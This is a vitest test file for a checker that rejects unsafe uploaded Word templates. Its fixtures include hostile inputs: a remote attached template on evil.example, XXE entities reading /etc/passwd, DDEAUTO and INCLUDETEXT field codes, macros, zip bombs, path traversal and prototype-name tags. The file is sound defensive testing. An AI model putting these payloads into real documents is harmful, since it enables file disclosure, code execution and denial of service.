import { expect, test } from 'vitest';
import { checkTemplate } from '#functions/documents/app/check/check-template.ts';
import { defaultTemplate } from '#functions/documents/app/defaults/default-template.ts';
import { documentKind } from '#shared/contracts/documents.ts';
import { makeZip } from '#test/support/make-zip.ts';
import { reportParts, reportTemplate, rowOf, runs, templateWith } from '#test/support/template-files.ts';

const problemsOf = async (template: Uint8Array, kind: 'report' | 'plan' = 'report') => {
  const checked = await checkTemplate(template, kind);
  return checked.ok ? [] : (checked.refusal.errors ?? []);
};

test.each(documentKind.options)('the template of %s that comes with the system passes', async (kind) => {
  expect(await checkTemplate(defaultTemplate(kind), kind)).toEqual({ ok: true, value: undefined });
});

const contentTypes = '[Content_Types].xml';
const relations = 'word/_rels/document.xml.rels';
const related = (attributes: string) => ({
  [relations]: (xml: string) =>
    xml.replace(
      '</Relationships>',
      `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${attributes}/></Relationships>`,
    ),
});
const bodied = (blocks: string) => ({
  'word/document.xml': (xml: string) => xml.replace('<w:body>', `<w:body>${blocks}`),
});

test.each<[string, Parameters<typeof reportTemplate>[0], string, string]>([
  ['macros', { 'word/vbaProject.bin': 'x' }, 'template-part', '宏'],
  [
    'a document called one with macros',
    {
      [contentTypes]: (xml) =>
        xml
          .replace('document.main+xml', 'document.macroEnabled.main+xml')
          .replace(
            'vnd.openxmlformats-officedocument.wordprocessingml.document.macro',
            'vnd.ms-word.document.macro',
          ),
    },
    'template-macros',
    '宏',
  ],
  ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }, 'template-part', '嵌入对象'],
  ['a foreign chunk', { 'word/afchunk.htm': '<html/>' }, 'template-part', '外部内容块'],
  ['a control', { 'word/activeX/activeX1.xml': '<a/>' }, 'template-part', 'ActiveX'],
  [
    'an attached template',
    related('attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'),
    'template-external',
    'evil.example',
  ],
  ['a picture from elsewhere', related('image" Target="file:///etc/passwd"'), 'template-external', 'passwd'],
  [
    'a picture on a share',
    related('image" Target="\\\\evil\\share\\a.png"'),
    'template-external',
    '外部内容',
  ],
  ['a link to an object', related('oleObject" Target="embeddings/a.bin"'), 'template-relation', 'oleObject'],
  [
    'an entity',
    {
      'word/document.xml': (xml) =>
        xml.replace('<w:document', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'),
    },
    'template-entity',
    '实体',
  ],
  [
    'an entity beside the text',
    { 'word/styles.xml': (xml) => xml.replace('<w:styles', '<!DOCTYPE lolz [<!ENTITY a "aaaa">]><w:styles') },
    'template-entity',
    '实体',
  ],
  ['text in UTF-16', { 'word/document.xml': '\u0000<\u0000w' }, 'template-broken', '已损坏'],
  [
    'XML that is none',
    { 'word/document.xml': (xml) => xml.replace('</w:body>', '') },
    'template-broken',
    '已损坏',
  ],
  [
    'a field that fetches',
    bodied('<w:p><w:r><w:instrText>INCLUDETEXT "c:\\x"</w:instrText></w:r></w:p>'),
    'template-field',
    '域代码',
  ],
  [
    'a field that runs',
    bodied('<w:p><w:fldSimple w:instr="DDEAUTO c:\\x"/></w:p>'),
    'template-field',
    '域代码',
  ],
  ['a chunk in the text', bodied('<w:altChunk r:id="rId9"/>'), 'template-markup', '外部内容块'],
  [
    'tracked changes',
    bodied('<w:p><w:ins><w:r><w:t>{标题}</w:t></w:r></w:ins></w:p>'),
    'template-markup',
    '修订',
  ],
])('%s is refused and named', async (_, changes, code, words) => {
  const problems = await problemsOf(await reportTemplate(changes));
  expect(problems.map((problem) => problem.code)).toContain(code);
  expect(problems.map(({ message }) => message).join()).toContain(words);
});

test.each<[string, string, string, string]>([
  ['an unknown tag', runs('{不存在}'), 'template-unknown-tag', '{不存在}'],
  ['a tag of another document', runs('{建设背景}'), 'template-unknown-tag', '{建设背景}'],
  ['an inherited name', runs('{constructor}'), 'template-unknown-tag', '{constructor}'],
  ['an expression', runs('{标题 + 市}'), 'template-unknown-tag', '标题 + 市'],
  ['raw markup', runs('{@标题}'), 'template-unknown-tag', '{@标题}'],
  ['other delimiters', runs('{=[[ ]]=}'), 'template-unknown-tag', '[[ ]]'],
  ['an unknown repeat', runs('{#明细}') + runs('x') + runs('{/明细}'), 'template-unknown-tag', '{#明细}'],
  ['a repeat without an end', runs('{#草稿}') + runs('x'), 'template-order', '{#草稿}'],
  ['an end without a beginning', runs('{/草稿}'), 'template-order', '{/草稿}'],
  ['a repeat within a paragraph', runs('a{#草稿}b'), 'template-place', '单独成段'],
  ['half a brace', runs('{标题'), 'template-brace', '没有成对'],
  ['a row with half a pair', rowOf(runs('{#草稿}a'), runs('b')), 'template-order', '不成对'],
])('%s is refused and named', async (_, blocks, code, words) => {
  const [told, ...more] = await problemsOf(await templateWith(blocks));
  expect(more).toEqual([]);
  expect(told).toMatchObject({ code, message: expect.stringContaining(words), pointer: '/content' });
});

test('lists do not stand in lists, and take only their own tags', async () => {
  const plan = (blocks: string) => templateWith(blocks);
  const bare = (await plan(
    runs('{#明细}') + runs('{#明细}') + runs('x') + runs('{/明细}') + runs('{/明细}'),
  )) as Buffer;
  expect((await problemsOf(bare, 'plan')).map(({ code }) => code)).toContain('template-order');
  const mixed = await plan(
    runs('{#明细}') + runs('{#联系人}') + runs('x') + runs('{/联系人}') + runs('{/明细}'),
  );
  expect((await problemsOf(mixed, 'plan')).map(({ code }) => code)).toContain('template-nested');
  const foreign = await plan(rowOf(runs('{#明细}{建设背景}'), runs('{备注}{/明细}')));
  expect((await problemsOf(foreign, 'plan')).map(({ message }) => message).join()).toContain('{#明细}');
});

test('a repeated part that would grow beyond measure is refused', async () => {
  const long = await templateWith(runs('{#明细}') + runs('字'.repeat(40_000)) + runs('{/明细}'));
  expect((await problemsOf(long, 'plan')).map(({ code }) => code)).toContain('template-too-large');
});

test('a tag split by Word into several runs is still one tag', async () => {
  expect(await problemsOf(await templateWith(runs('{', '标', '题', '} 与 {市', '}')))).toEqual([]);
});

test.each<[string, () => Promise<Buffer>, string]>([
  ['no zip', async () => Buffer.from('PK nothing of the kind'), 'template-broken'],
  ['a zip cut off', async () => (await reportTemplate()).subarray(0, 900), 'template-broken'],
  [
    'a part that unpacks to 3 MB',
    () => reportTemplate({ 'word/theme/theme1.xml': ' '.repeat(3_000_000) }),
    'template-bomb',
  ],
  [
    'a part that lies about its size',
    async () =>
      makeZip(...(await reportParts()), {
        name: 'word/theme/theme1.xml',
        content: ' '.repeat(5_000_000),
        claims: 10,
      }),
    'template-broken',
  ],
  [
    'many parts',
    async () =>
      makeZip(...Array.from({ length: 300 }, (_, at) => ({ name: `word/media/${at}.png`, content: 'x' }))),
    'template-bomb',
  ],
  [
    'two parts of one name',
    async () => makeZip(...(await reportParts()), { name: 'word/Document.xml', content: '<a/>' }),
    'template-repeated',
  ],
  [
    'a path that leads out',
    async () => makeZip(...(await reportParts()), { name: '../x.xml', content: '<a/>' }),
    'template-broken',
  ],
  [
    'encryption',
    async () =>
      makeZip(...(await reportParts()), { name: 'word/settings.xml', content: '<a/>', encrypted: true }),
    'template-encrypted',
  ],
  [
    'a workbook',
    async () =>
      makeZip(
        { name: '[Content_Types].xml', content: '<Types/>' },
        { name: 'xl/workbook.xml', content: '<a/>' },
      ),
    'template-not-word',
  ],
])('%s is refused', async (_, make, code) => {
  const [told] = await problemsOf(await make());
  expect(told).toMatchObject({ code, message: expect.stringMatching(/\p{Script=Han}/u) });
});

test.each([101, 100_000])('what is nested %i deep is refused, not a fault', async (levels) => {
  const deep = '<w:sdt>'.repeat(levels) + '</w:sdt>'.repeat(levels);
  const [told] = await problemsOf(await templateWith(deep));
  expect(told).toMatchObject({ code: 'template-broken' });
});
